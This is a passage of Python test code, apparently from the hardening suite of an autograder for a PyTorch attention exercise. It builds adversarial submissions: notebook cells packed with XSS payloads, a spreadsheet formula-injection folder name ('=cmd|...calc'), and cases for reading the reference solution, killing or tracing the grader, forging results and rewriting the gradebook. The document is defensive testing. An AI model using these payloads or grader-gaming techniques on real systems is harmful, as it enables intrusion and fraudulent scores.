    _html(f'<iframe src="{remote("iframe")}"></iframe><iframe srcdoc="<script>{ran("srcdoc")}</script>"></iframe>'
          f'<object data="{remote("object")}"></object><embed src="{remote("embed")}">'
          f'<frameset><frame src="{remote("frame")}"></frameset>'),
    _html(f'<img src="{remote("img")}"><img src="//127.0.0.1:@PORT@/remote/protocol-relative">'
          f'<img src="x" srcset="{remote("srcset")} 1x"><link rel="stylesheet" href="{remote("link")}">'
          f'<div style="background-image: url({remote("style-attr")})">bg</div>'
          f'<style>@import url({remote("import")}); body {{ background: url({remote("style")}) }}</style>'
          f'<video poster="{remote("poster")}"></video><audio src="{remote("audio")}" autoplay></audio>'
          f'<table background="{remote("table-background")}"><tr><td>t</td></tr></table>'
          f'<input type="image" src="{remote("input-image")}">'
          f'<meta http-equiv="refresh" content="0; url={remote("refresh")}">'),
    _html(f'<a href="javascript:{ran("js-link")}">a</a><a href=" JaVaScRiPt:{ran("js-link-case")}">b</a>'
          f'<a href="&#106;avascript:{ran("js-link-entity")}">c</a><a href="vbscript:x">v</a>'
          f'<form action="javascript:{ran("form")}"><button formaction="javascript:{ran("formaction")}">f</button>'
          f'</form><base href="{remote("base")}/">'),
    _html(f'<a href="data:text/html,<script>{ran("data-link")}</script>">d</a>'
          f'<iframe src="data:text/html,<script>{ran("data-iframe")}</script>"></iframe>'
          f'<object data="data:text/html,<script>{ran("data-object")}</script>"></object>'
          f'<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{ran("data-embed")}%22/>">'),
    _show({"text/markdown": f'[md](javascript:{ran("markdown-output-link")}) '
                            f'<img src=x onerror="{ran("markdown-output")}"> ![r]({remote("markdown-output")})',
           "text/plain": "md"}),
    _show({"text/latex": f'$x$ <img src=x onerror="{ran("latex")}">', "text/plain": "latex"}),
    _show({"image/png": PNG, "text/plain": "png"},
          {"image/png": {"width": f'1 onerror={ran("png-width")}',
                         "height": f'1"><img src=x onerror="{ran("png-height")}">'}}),
    _show({"text/html": f"<script>{ran('isolated')}</script>"}, {"isolated": True}),
    _show({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
           "text/plain": "widget"}),
    _code(f"""dp = get_ipython().display_pub  # a stream name of the kernel's choosing
dp.session.send(dp.pub_socket, "stream", {{"name": 'x"><img src=x onerror="{ran("stream-name")}">', "text": "s\\n"}},
                parent=dp.parent_header, ident=dp.topic)"""),
    _code(f"""print('<script>{ran("print")}</script>')"""),
    {"cell_type": "markdown", "source": f'<script>{ran("md-script")}</script>\n\n<img src=x onerror="{ran("md-img")}">\n\n'
                                        f'<svg onload="{ran("md-svg")}"></svg>\n\n'
                                        f'<iframe srcdoc="<script>{ran("md-srcdoc")}</script>"></iframe>\n\n'
                                        f'<details open ontoggle="{ran("md-details")}"><summary>s</summary></details>\n\n'
                                        f'<style>@import url({remote("md-style")});</style>'},
    {"cell_type": "markdown", "source": f'[click](javascript:{ran("md-link")}) ![remote]({remote("md-image")}) '
                                        f'[data](data:text/html,<script>{ran("md-data")}</script>) '
                                        f'<a href="javascript:{ran("md-a")}">a</a>'},
    # Code spans hold text only (no backquotes inside, which would end them): it must not become a link.
    {"cell_type": "markdown", "source": "`[x](javascript:history.back())` and `<img src=x onerror=history.back()>`"},
    {"cell_type": "markdown", "source": "![a](attachment:evil.svg) ![b](attachment:page.html)",
     "attachments": {"evil.svg": {"image/svg+xml": SVG_SCRIPT}, "page.html": {"text/html": f"<script>{ran('att')}</script>"}}},
    {"cell_type": "markdown", "source": "tagged", "metadata": {"tags": [f'x" tabindex=1 autofocus onfocus="{ran("tag")}']}},
    {"cell_type": "raw", "source": f'<script>{ran("raw")}</script><img src=x onerror="{ran("raw-img")}">',
     "metadata": {"raw_mimetype": "text/html", "format": "text/html"}},
    _code(f"""raise ValueError('<img src=x onerror="{ran("error")}">')"""),
]
NOTEBOOK_METADATA = {"title": f"</title><script>{ran('title')}</script>",
                     "widgets": {"application/vnd.jupyter.widget-state+json": {
                         "state": {}, "version_major": 2, "version_minor": 0,
                         "x": f"</script><script>{ran('widget-state')}</script>"}}}


def notebook(cells, metadata=None):
    """The JSON text of a notebook holding ``cells`` (dicts in nbformat 4's shape)."""
    import base64
    import nbformat

    nb = nbformat.v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                           "language": "python"}, **(metadata or {})})
    for spec in cells:
        spec = dict(spec)
        make = {"code": nbformat.v4.new_code_cell, "markdown": nbformat.v4.new_markdown_cell,
                "raw": nbformat.v4.new_raw_cell}[spec.pop("cell_type")]
        attachments = spec.pop("attachments", None)
        cell = make(**spec)
        if attachments:
            cell.attachments = {name: {mime: base64.b64encode(data.encode()).decode() for mime, data in kinds.items()}
                                for name, kinds in attachments.items()}
        nb.cells.append(cell)
    return nbformat.writes(nb)

CASES = [
    # --- attacks on the sandbox: blank stubs, gated on the attack working (must stay 0) ---
    Case("01_gated_read_reference", "read the reference / suites by any path", "blank", 0,
         {"simple_attention.py": gated(READ_REFERENCE)}),
    Case("02_gated_import_reference", "import the reference or the grader's helpers", "blank", 0,
         {"simple_attention.py": gated(IMPORT_REFERENCE)}),
    Case("03_gated_gc_walk", "walk gc, sys.modules and frames for reference objects", "blank", 0,
         {"simple_attention.py": gated(GC_WALK)}),
    Case("04_gated_network", "network: loopback TCP/UDP to the grader, abstract socket, internet, DNS", "blank", 0,
         {"simple_attention.py": gated(NETWORK)}),
    Case("05_gated_write_outside", "write fake results and files outside the sandbox", "blank", 0,
         {"simple_attention.py": gated(WRITE_OUTSIDE)}),
    Case("06_gated_trace_grader", "ptrace the grader, read its /proc mem and environment", "blank", 0,
         {"simple_attention.py": gated(TRACE_GRADER)}),
    Case("07_kill_grader", "SIGKILL parent, grader pid, kill -1, every visible pid", "blank", 0,
         {"simple_attention.py": prepend(KILL_GRADER)}),
    Case("08_monkeypatch", "monkeypatch torch comparisons and autograder.grading.compare in the child", "blank", 0,
         {"simple_attention.py": append(MONKEYPATCH)}),
    Case("09_spoof_frames", "write forged frames on the channel, rewrite the child's ops", "blank", 0,
         everywhere(SPOOF_FRAMES), note="malformed answer"),
    Case("10_tensor_subclass", "a tensor subclass that claims to equal anything", "blank", 0,
         {"simple_attention.py": append(LIAR_TENSOR)}, note="tensor subclass"),
    Case("11_fake_tensor", "an object that pretends to be a tensor", "blank", 0,
         {"simple_attention.py": append(FAKE_TENSOR)}),
    Case("12_hardcoded_book", "hard-code the book's printed outputs", "blank", 0,
         {"simple_attention.py": HARDCODE_BOOK}),
    Case("13_symlink_reference", "symbolic links to the reference (files and a folder)", "blank", 0,
         {"simple_attention.py": Symlink("@REPO@/solutions/ch03_attention/simple_attention.py"),
          "self_attention.py": Symlink("../../../../@REPO@/solutions/ch03_attention/self_attention.py"),
          "solutions": Symlink("@REPO@/solutions/ch03_attention")}, note="symbolic link"),
    Case("14_tool_files", "conftest.py, sitecustomize.py, .pth, pytest.ini and friends", "blank", 0,
         TOOL_FILES),
    Case("14b_gated_hidden_memory", "memory no limit counts: memfd pages, a tmpfs in a user namespace of its own",
         "blank", 0, {"simple_attention.py": gated(HIDDEN_MEMORY)}),
    # --- failure modes: the honest rest is graded, the broken part earns nothing ---
    Case("20_syntax_error", "syntax error", "simple", 0,
         {"simple_attention.py": replace("def dot_product_loop(x, y):", "def dot_product_loop(x, y)")},
         note="SyntaxError"),
    Case("21_import_error", "import error", "simple", 0,
         {"simple_attention.py": prepend("import module_that_does_not_exist")}, note="ModuleNotFoundError"),
    Case("22_missing_name", "a function is missing", "simple", 13,
         {"simple_attention.py": replace("def all_context_vectors(", "def all_context_vector(")},
         note="defines no all_context_vectors"),
    Case("23_wrong_signature", "wrong signature", "simple", 14,
         {"simple_attention.py": replace("def softmax_naive(x):", "def softmax_naive(x, temperature):")},
         note="TypeError"),
    Case("24_exception", "an exception in one function", "simple", 13,
         {"simple_attention.py": append("def attn_scores_matmul(inputs):\n    raise ValueError('boom')")},
         note="ValueError: boom"),
    Case("25_sys_exit_import", "sys.exit at import", "simple", 0,
         {"simple_attention.py": prepend("import sys\nsys.exit(3)")}, note="SystemExit"),
    Case("26_os_exit_import", "os._exit at import", "simple", 0,
         {"simple_attention.py": prepend("import os\nos._exit(7)")}, note="exited with status 7"),
    Case("27_os_exit_function", "os._exit in one function", "simple", 13,
         {"simple_attention.py": append("def normalize_by_sum(s):\n    import os\n    os._exit(0)")},
         note="exited with status 0"),
    Case("28_kill_self", "SIGKILL to itself and its process group", "simple", 14,
         {"simple_attention.py": append("def dot_product_loop(x, y):\n    import os, signal\n"
                                        "    os.kill(os.getpid(), signal.SIGKILL)\n    os.killpg(0, signal.SIGKILL)\n"
                                        "    raise RuntimeError('still alive')")}),
    Case("29_loop_import", "infinite loop at import", "simple", 0,
         {"simple_attention.py": prepend("while True:\n    pass")}, note="did not finish"),
    Case("30_loop_escape", "infinite loop in a function that calls setsid(), ignores signals, forks",
         "simple", 14, {"simple_attention.py": append(ESCAPE_LOOP)}, note="did not finish",
         tokens=("a",)),
    Case("31_memory", "memory exhaustion", "simple", 13, {"simple_attention.py": append(MEMORY)}),
    Case("32_fork_storm", "fork storm", "simple", 13, {"simple_attention.py": append(FORK_STORM)},
         tokens=("b",)),
    Case("33_huge_output", "32 MiB on stdout and stderr, with forged frames and results", "simple", 15,
         {"simple_attention.py": prepend(HUGE_OUTPUT)}),
    Case("34_nan_inf", "NaN and inf outputs", "simple", 12,
         {"simple_attention.py": append("def softmax_naive(x):\n    return torch.full_like(x, float('nan'))\n\n"
                                        "def all_context_vectors(inputs):\n    return torch.full_like(inputs, float('inf'))")},
         note="NaN"),
    Case("35_wrong_dtype", "wrong dtype", "simple", 13,
         {"simple_attention.py": append("def attn_scores_matmul(inputs):\n    return (inputs @ inputs.T).double()")},
         note="dtype torch.float64"),
    Case("36_wrong_shape", "wrong shape", "simple", 13,
         {"simple_attention.py": append("def attn_scores_loop(inputs):\n    return (inputs @ inputs.T).unsqueeze(0)")}),
    Case("37_huge_reply", "a 160 MB answer", "simple", 13,
         # torch.empty: the size is the attack; zeros would spend the check's time
         # writing 160 MB per call, and time out instead on a busy machine
         {"simple_attention.py": append("def attn_weights_from_scores(s):\n    return torch.empty(40_000_000)")},
         note="cannot be sent back"),
    Case("38_evil_exceptions", "KeyboardInterrupt, an unprintable exception, a 9 MB message", "simple", 11,
         {"simple_attention.py": append(EVIL_EXCEPTIONS)}, note="KeyboardInterrupt"),
    Case("39_padded_sources", "1.6 MB of padding modules", "simple", 15,
         {f"zz_pad_{i}.py": "# " + "p" * (200 << 10) + "\n" for i in range(8)}, note="in all, ignored"),
    Case("40_odd_files", "a FIFO, a folder, NUL bytes, bad UTF-8 and a bad name, all ending in .py", "simple", 15,
         {"fifo.py": Fifo(), "folder.py": Folder(), "nul.py": "x = 1\0\n", "latin.py": b"s = '\xe9\xff'\n",
          "bad-name.py": "import os\n"}, note="not a regular file"),
    # --- second round (issue 8) ---
    Case("41_linked_assignment_folder", "ch03_attention/ is a symbolic link to the reference", "empty", 0,
         {"ch03_attention": Symlink("@REPO@/solutions/ch03_attention")}, note="symbolic link", graded=False),
    Case("42_linked_to_classmate", "ch03_attention/ is a symbolic link to a classmate's folder", "empty", 0,
         {"ch03_attention": Symlink("../00_good")}, note="symbolic link", graded=False),
    Case("43_linked_student_folder", "the student folder is a symbolic link to the solutions", "empty", 0,
         link="@REPO@/solutions", note="symbolic link", graded=False),
    Case("44_forged_replies", "the child answers the transfer and structure probes without the student's code",
         "blank", 0, everywhere(FORGED_REPLIES)),
    # Exercise 3.3 is judged on the arguments it passes the grader's stand-in now, so no large request
    # comes and nothing is lost: a send-side stall needs a case of its own again.
    Case("45_stop_reading", "stops reading the channel when a large request comes, sleeping", "good", 100,
         {"exercises.py": lambda text: append(OTHER_DRAW)(prepend(STOP_READING)(text))}),
    Case("46_gated_sysv_shm", "4 GiB of SysV shared memory, outside the memory limit", "blank", 0,
         {"simple_attention.py": gated(SYSV_SHM)}),
    Case("47_gated_keyring", "read the session keyring, write nobody's user keyring", "blank", 0,
         {"simple_attention.py": gated(KEYRING)}),
    Case("48_float8", "an answer in float8", "simple", 14,
         {"simple_attention.py": append("def softmax_naive(x):\n    return torch.softmax(x, dim=0).to(torch.float8_e4m3fn)")},
         note="cannot be compared"),
    Case("49_error_keys", "error keys that are not numbers", "simple", 6,
         {"simple_attention.py": prepend(ERROR_KEYS)}, note="malformed answer"),
    Case("50_deep_json", "an answer nested 600 deep", "simple", 0, {"simple_attention.py": DEEP_JSON},
         note="sent garbage"),
    Case("51_many_tensors", "250,000 empty tensors under the byte cap", "simple", 0,
         {"simple_attention.py": MANY_TENSORS}, note="sent garbage"),
    Case("52_long_name", "a student folder name of 245 characters", "good", 100, folder=LONG_NAME),
    Case("53_formula_equals", "a folder name that a spreadsheet runs as a formula", "blank", 0,
         folder="=cmd|' -C calc'!A0"),
    Case("54_formula_plus", "a folder name starting with +", "blank", 0, folder="+53+1"),
    Case("55_formula_minus", "a folder name starting with -", "blank", 0, folder="-55+1"),
    Case("56_formula_at", "a folder name starting with @", "blank", 0, folder="@SUM(56)"),
    Case("57_terminal_escapes", "terminal escape sequences in the folder name and a file name", "simple", 15,
         {f"{ESCAPES}passed.py": "x = 1\n"}, folder=f"57_{ESCAPES}", note="not a valid module name"),
    # --- the nbgrader kernel (issue 9) ---
    Case("58_detached_score_editor", "a detached process that rewrites the gradebook after the scores are saved",
         "blank", 0, {"simple_attention.py": append(DETACHED_EDITOR)}, tokens=("@TOKEN@d",)),
    # --- HTML in the feedback and in formgrader (issue 17): the CLI grades the modules, 100 ---
    Case("59_script_in_feedback", "display(HTML('<script>...<img onerror=...>')) in the notebook", "good", 100,
         {"ch03_attention.ipynb": notebook(HONEST_CELLS + SCRIPT_IN_OUTPUT_CELLS)}),
    Case("60_active_content_in_feedback", "scripts, handlers, javascript: and data: URLs, frames, remote "
         "resources, SVG, Markdown, raw cells and metadata in the notebook", "good", 100,
         {"ch03_attention.ipynb": notebook(HONEST_CELLS + ACTIVE_CONTENT_CELLS, NOTEBOOK_METADATA)}),
    # --- kernel memory no limit counts, and Docker's refusals (issue 35) ---
    Case("61_gated_socket_queues", "socket pairs filled until they block, Unix, netlink and UDP sockets",
         "blank", 0, {"simple_attention.py": gated(SOCKET_QUEUES)}),
    Case("62_gated_kernel_surface", "io_uring_setup, perf_event_open and userfaultfd by raw syscall", "blank", 0,
         {"simple_attention.py": gated(KERNEL_SURFACE)}),
    Case("63_refusals_in_the_feedback", "socketpair and io_uring_setup in two otherwise correct functions",
         "simple", 13, {"simple_attention.py": append(REFUSED_CALLS)}, note="Operation not permitted"),
    Case("64_forged_where_into_a_huge_function", "a failure placed in a generated function of 98 nested loops",
         "simple", 14, {"simple_attention.py": append(FORGED_WHERE), "generated.py": GENERATED},
         note="`f` is too large to analyse"),
]


def hardcoded_book_module():
    """simple_attention.py that returns the reference's results on the book's inputs, whatever it is given."""
    import sys
    sys.path.insert(0, str(SOLUTIONS / "ch03_attention"))
    try:
        import simple_attention as ref
    finally:
        sys.path.pop(0)
    x = ref.inputs
    scores = ref.attn_scores_matmul(x)
    values = {
        "dot_product_loop": ref.dot_product_loop(x[0], x[1]),
        "attn_scores_for_query": ref.attn_scores_for_query(x, x[1]),
        "attn_scores_loop": scores, "attn_scores_matmul": scores,
        "normalize_by_sum": ref.normalize_by_sum(scores[1]),
        "softmax_naive": ref.softmax_naive(scores[1]),
        "attn_weights_from_scores": ref.attn_weights_from_scores(scores),
        "context_vector_for_query": ref.context_vector_for_query(x, ref.attn_weights_from_scores(scores[1])),
        "all_context_vectors": ref.all_context_vectors(x),
    }
    lines = ["import torch", ""]
    for name, value in values.items():
        lines.append(f"def {name}(*args, **kwargs):\n    return torch.tensor({value.tolist()!r})\n")
    return "\n".join(lines)


def base_files(base):
    """{file name: text} of a base submission."""
    files = {}
    for module in MODULES if base != "empty" else ():
        solved = base == "good" or (base == "simple" and module == "simple_attention")
        files[f"{module}.py"] = ((SOLUTIONS if solved else ASSIGNMENTS) / "ch03_attention" / f"{module}.py").read_text()
    return files


def expand(text, ctx):
    for key, value in ctx.items():
        text = text.replace(f"@{key}@", value)
    return text


def materialize(case, folder, ctx):
    """Write ``case`` into ``folder``; ``ctx`` maps placeholder names to their text."""
    if case.link:
        os.symlink(expand(case.link, ctx), folder)
        return
    folder.mkdir(parents=True)
    files = base_files(case.base)
    for name, spec in case.files.items():
        if callable(spec) and not isinstance(spec, (Symlink, Fifo, Folder)):
            files[name] = spec(files[name])
        else:
            files[name] = spec
    for name, spec in files.items():
        path = folder / name
        if isinstance(spec, Symlink):
            if path.exists():
                path.unlink()
            os.symlink(expand(str(spec), ctx), path)
        elif isinstance(spec, Fifo):
            os.mkfifo(path)
        elif isinstance(spec, Folder):
            path.mkdir()
        elif isinstance(spec, bytes):
            path.write_bytes(spec)
        else:
            path.write_text(expand(spec, ctx))


def copy_base(base, folder):
    folder.mkdir(parents=True)
    for name, text in base_files(base).items():
        (folder / name).write_text(text)


